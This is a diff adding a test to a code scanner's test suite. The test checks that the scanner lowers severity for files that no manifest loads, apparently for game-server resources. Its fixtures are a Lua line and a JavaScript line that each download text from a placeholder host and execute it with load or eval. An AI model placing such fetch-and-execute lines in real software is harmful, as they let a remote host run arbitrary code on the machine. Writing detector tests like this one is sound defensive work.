@@ -178,3 +178,26 @@ test.each([
 
   expect(findings.find(({ rule }) => rule === 'runs-downloaded-code')?.detail).toBe(detail)
 })
+
+/** `lowered` if its text says that no manifest loads the file. */
+function severities(files: Record<string, string>) {
+  return scan(files).findings.map(({ path, severity, side, detail }) => {
+    const isLowered = detail?.endsWith('not loaded by a manifest')
+    return `${path} ${severity} ${side}${isLowered ? ' lowered' : ''}`
+  })
+}
+
+test('code that no manifest loads is one step lower, except for Lua of an archive without a manifest', () => {
+  const lua = "PerformHttpRequest('https://a.example', function(_, text) load(text)() end)"
+  const javascript = "fetch('https://a.example').then((answer) => answer.text()).then(eval)"
+
+  expect(severities({ 'a.lua': lua, 'b.js': javascript, 'dist/c.js': javascript })).toEqual([
+    'a.lua high server',
+    'b.js medium none lowered',
+    'dist/c.js medium none lowered',
+  ])
+  expect(severities({ 'r/fxmanifest.lua': manifest, 'a.lua': lua, 'r/b.js': javascript })).toEqual([
+    'r/b.js medium none lowered',
+    'a.lua medium none lowered',
+  ])
+})
